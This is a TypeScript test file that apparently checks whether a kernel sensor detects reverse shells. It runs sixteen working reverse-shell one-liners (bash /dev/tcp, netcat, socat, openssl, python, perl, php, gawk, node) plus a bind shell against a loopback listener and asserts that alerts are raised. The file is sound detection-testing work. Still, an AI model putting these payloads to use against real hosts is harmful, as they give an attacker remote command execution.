/**
 * Real reverse shells to a listener on loopback, under the real kernel sensor. The listener asks each for one
 * sum, sees the answer, and says exit: what is tested is a shell that truly works from afar.
 */
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect, createServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { createServer as createTlsServer } from 'node:tls';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacks } from '../need.ts';
import { freePort } from '../port.ts';
import { lacksKernel, startWatch, type Watch } from '../live/kernel.ts';
import type { AlertLine } from '../live/moat.ts';

const folder = mkdtempSync(join(tmpdir(), 'moat-shells-'));
const python = '/usr/bin/python3';

/** Far end: asks 6 times 7 of whoever connects, resolves with the answer. */
interface FarEnd { port: number; answered: Promise<void>; close(): void }

async function farEnd(make: (onSocket: (socket: Socket) => void) => Server): Promise<FarEnd> {
  let answer: () => void = () => undefined;
  const answered = new Promise<void>((resolve) => { answer = resolve; });
  const sockets = new Set<Socket>();
  const server = make((socket) => {
    sockets.add(socket);
    socket.on('error', () => socket.destroy());
    let said = '';
    socket.on('data', (chunk) => {
      said += chunk.toString('latin1');
      if (!/moat-42\b/.test(said)) return;
      answer();
      socket.write('exit\n');
    });
    const ask = (): boolean => socket.write('echo moat-$((6 * 7))\n');
    setTimeout(ask, 300);
    setTimeout(ask, 1500);
  });
  await new Promise<void>((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  return { port: (server.address() as AddressInfo).port, answered, close() { for (const socket of sockets) socket.destroy(); server.close(); } };
}

const plain = (): Promise<FarEnd> => farEnd((onSocket) => createServer(onSocket));

interface Attack { name: string; file: string; args: (port: number) => string[]; needs?: string[]; tls?: true; /** Answers come by a second connection. */ twoWays?: true }

const sh = (text: (port: number) => string): Attack['args'] => (port) => ['-c', text(port)];
const fifo = join(folder, 'f');

const attacks: Attack[] = [
  { name: 'bash, /dev/tcp', file: '/bin/bash', args: sh((port) => `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`) },
  { name: 'bash, a loop of its own', file: '/bin/bash', args: sh((port) => `exec 5<>/dev/tcp/127.0.0.1/${port}; cat <&5 | while read -r line; do [ "$line" = exit ] && break; /bin/bash -c "$line; /bin/true" 2>&5 >&5; done`) },
  { name: 'nc -e', file: '/bin/nc.traditional', args: (port) => ['-e', '/bin/sh', '127.0.0.1', String(port)], needs: ['/bin/nc.traditional'] },
  { name: 'nc -c', file: '/bin/nc.traditional', args: (port) => ['-c', 'bash', '127.0.0.1', String(port)], needs: ['/bin/nc.traditional'] },
  { name: 'busybox nc -e', file: '/usr/bin/busybox', args: (port) => ['nc', '127.0.0.1', String(port), '-e', '/bin/sh'], needs: ['/usr/bin/busybox'] },
  { name: 'named pipe and nc', file: '/bin/sh', args: sh((port) => `rm -f ${fifo}; mkfifo ${fifo}; cat ${fifo} | /bin/sh -i 2>&1 | /bin/nc.openbsd -N 127.0.0.1 ${port} > ${fifo}`), needs: ['/bin/nc.openbsd'] },
  { name: 'named pipe and openssl', file: '/bin/sh', args: sh((port) => `rm -f ${fifo}s; mkfifo ${fifo}s; /bin/sh -i < ${fifo}s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:${port} > ${fifo}s 2>/dev/null`), needs: ['/usr/bin/openssl'], tls: true },
  { name: 'telnet on both sides', file: '/bin/sh', args: sh((port) => `sleep 5 | telnet 127.0.0.1 ${port} 2>/dev/null | /bin/sh | telnet 127.0.0.1 ${port}`), needs: ['/usr/bin/telnet'], twoWays: true },
  { name: 'socat with a terminal', file: '/usr/bin/socat', args: (port) => [`TCP:127.0.0.1:${port}`, 'EXEC:bash,pty,stderr,setsid,sane'], needs: ['/usr/bin/socat'] },
  { name: 'python, streams', file: python, args: (port) => ['-c', `import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",${port}));[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(["/bin/sh","-i"])`], needs: [python] },
  { name: 'python, terminal', file: python, args: (port) => ['-c', `import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",${port}));[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/bin/bash")`], needs: [python] },
  { name: 'perl', file: '/usr/bin/perl', args: (port) => ['-e', `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(${port},inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");}`], needs: ['/usr/bin/perl'] },
  { name: 'php', file: '/usr/bin/php', args: (port) => ['-r', `$s=fsockopen("127.0.0.1",${port});$p=proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$pipes);proc_close($p);`], needs: ['/usr/bin/php'] },
  { name: 'gawk', file: '/usr/bin/gawk', args: (port) => [`BEGIN { s = "/inet/tcp/0/127.0.0.1/${port}"; while ((s |& getline c) > 0) { if (c == "exit") break; while ((c |& getline line) > 0) print line |& s; close(c) } }`], needs: ['/usr/bin/gawk'] },
  { name: 'node', file: process.execPath, args: (port) => ['-e', `const c=require("net").connect(${port},"127.0.0.1",()=>{const s=require("child_process").spawn("/bin/sh",[]);c.pipe(s.stdin);s.stdout.pipe(c);s.stderr.pipe(c);s.on("exit",()=>c.destroy())})`] },
  { name: 'node, the shell first', file: process.execPath, args: (port) => ['-e', `const s=require("child_process").spawn("/bin/sh",[]);const c=require("net").connect(${port},"127.0.0.1",()=>{c.pipe(s.stdin);s.stdout.pipe(c)});s.on("exit",()=>c.destroy())`] },
];

/** Once somebody listens there. */
async function callUp(port: number): Promise<Socket> {
  for (let left = 100; ; left--) {
    const socket = connect(port, '127.0.0.1');
    const failed = await new Promise<Error | undefined>((resolve) => { socket.once('connect', () => { resolve(undefined); }); socket.once('error', resolve); });
    if (failed === undefined) return socket;
    if (left === 0) throw failed;
    await sleep(50);
  }
}

const end = async (child: ChildProcess): Promise<void> => {
  if (child.exitCode !== null || child.signalCode !== null || child.pid === undefined) return;
  const gone = new Promise((resolve) => { child.once('exit', resolve); });
  // Its own process group: all that it started.
  process.kill(-child.pid, 'SIGKILL');
  await gone;
};

describe.skipIf(await lacksKernel())('reverse shells that work', () => {
  let watch: Watch;
  let tls: { key: Buffer; cert: Buffer } | undefined;

  beforeAll(async () => {
    if (existsSync('/usr/bin/openssl')) {
      execFileSync('/usr/bin/openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(folder, 'key'), '-out', join(folder, 'cert'), '-days', '2', '-subj', '/CN=far.example'], { stdio: 'ignore' });
      tls = { key: readFileSync(join(folder, 'key')), cert: readFileSync(join(folder, 'cert')) };
    }
    watch = await startWatch({ behaviours: ['reverse-shell'] });
  });
  afterAll(async () => {
    await watch?.end();
    rmSync(folder, { recursive: true, force: true });
  });

  const summary = (alert: AlertLine): string => (alert as unknown as { summary: string }).summary;

  it.each(attacks)('$name', async ({ file, args, needs = [], tls: wantsTls, twoWays }) => {
    if (lacks({ files: needs, why: 'a reverse shell of its kind' })) return;
    const far = await (wantsTls && tls ? farEnd((onSocket) => createTlsServer(tls!, onSocket)) : plain());
    const child = spawn(file, args(far.port), { stdio: ['ignore', 'ignore', 'ignore'], detached: true, cwd: folder });
    try {
      await Promise.race([far.answered, sleep(8000).then(() => { throw new Error(`the shell did not answer${twoWays ? ' by its second connection' : ''}`); })]);
      const alert = await watch.waitFor((one) => one.rule_id === 'behaviour.reverse-shell' && summary(one).includes(`127.0.0.1:${far.port}`), `of the shell to port ${far.port}`);
      expect(['high', 'critical']).toContain(alert.level);
    } finally {
      await end(child);
      far.close();
    }
  });

  it('a shell bound to a port of this machine, opened from outside', async () => {
    const bound = await freePort();
    const server = spawn(python, ['-c', `import socket,subprocess;l=socket.create_server(("127.0.0.1",${bound}));c,_=l.accept();subprocess.call(["/bin/sh","-i"],stdin=c,stdout=c,stderr=c)`], { stdio: 'ignore', detached: true });
    try {
      const client = await callUp(bound);
      let said = '';
      client.on('data', (chunk) => { said += chunk.toString(); });
      client.write('echo moat-$((6 * 7))\n');
      const alert = await watch.waitFor((one) => one.rule_id === 'behaviour.reverse-shell' && summary(one).includes('/bin/sh -i') && JSON.stringify(one).includes(String(server.pid)), 'of the bound shell');
      expect(alert.level).toBe('critical');
      await expect.poll(() => said).toContain('moat-42');
      client.destroy();
    } finally { await end(server); }
  });

  it('a shell behind a socket between processes is no remote one', async () => {
    const path = join(folder, 'activated.sock');
    const before = watch.alerts.length;
    const server = spawn(python, ['-c', `import socket,subprocess;l=socket.socket(socket.AF_UNIX);l.bind("${path}");l.listen();c,_=l.accept();subprocess.call(["/bin/sh","-i"],stdin=c,stdout=c,stderr=c)`], { stdio: 'ignore', detached: true });
    try {
      await expect.poll(() => existsSync(path)).toBe(true);
      const client = connect(path);
      let said = '';
      client.on('data', (chunk) => { said += chunk.toString(); });
      client.write('echo moat-$((6 * 7)); /bin/ls / ; exit\n');
      await expect.poll(() => said).toContain('moat-42');
      await sleep(500);
      expect(watch.alerts.slice(before).filter((one) => one.rule_id === 'behaviour.reverse-shell' && JSON.stringify(one).includes(String(server.pid))).map(summary)).toEqual([]);
      client.destroy();
    } finally { await end(server); }
  });

  it('ordinary shells with connections beside them are not told', async () => {
    const far = await plain();
    writeFileSync(join(folder, 'job.sh'), `echo one; bash -c 'exec 3<>/dev/tcp/127.0.0.1/${far.port}; echo ping >&3; head -c 4 <&3; exec 3>&-' & sleep 1; kill $! 2>/dev/null; echo 'echo two' | sh; (echo 'exit 0') | bash -s; true\n`);
    try {
      for (const [file, args] of [['/bin/sh', [join(folder, 'job.sh')]], [process.execPath, ['-e', `require("net").connect(${far.port},"127.0.0.1",function(){require("child_process").execFileSync("/bin/sh",["-c","echo three"]);this.destroy()})`]]] as const) {
        const child = spawn(file, args, { stdio: ['ignore', 'ignore', 'ignore'], detached: true });
        await new Promise((resolve) => { child.once('exit', resolve); });
      }
      await sleep(500);
      expect(watch.alerts.filter((one) => summary(one).includes(`:${far.port}`)).map(summary)).toEqual([]);
    } finally { far.close(); }
  });
});
